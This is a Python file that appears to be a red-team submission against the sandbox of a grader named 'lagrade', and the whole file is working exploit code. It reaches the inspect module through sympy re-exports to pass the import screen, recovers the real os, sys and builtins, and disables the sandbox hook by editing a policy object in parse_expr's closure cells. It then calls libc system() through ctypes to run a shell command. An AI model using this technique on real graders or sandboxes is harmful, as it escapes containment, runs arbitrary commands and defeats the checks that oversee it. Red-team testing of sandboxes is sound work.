"""effect: run-command
tries: switch the hook off through parse_expr's closure cells (attrgetter), then call libc's system() through ctypes, loaded by the grader before the fork.

ctypes is in sys.modules (the sandbox loads libc in the parent).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    ct = members(sys_)["modules"]["ct" + "ypes"]
    attrgetter("sys" + "tem")(ct.CDLL("libc.so.6"))(b"id > /tmp/lagrade-redteam/drop/pwned-r2_ctypes_libc_system")


# route 2 with operator.attrgetter (sympy.core.add imports it): parse_expr.__closure__ -> cells ->
# the cell holding the policy; trusted = True and busy = True switch the hook off
from sympy.core.add import attrgetter

parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
cells = (attrgetter("_" + "_closure__")(members(parser)["parse_expr"]) if parser else None) or ()
for policy in [c.cell_contents for c in cells if "busy" in members(c.cell_contents)]:
    policy.trusted = True
    policy.busy = True
work()
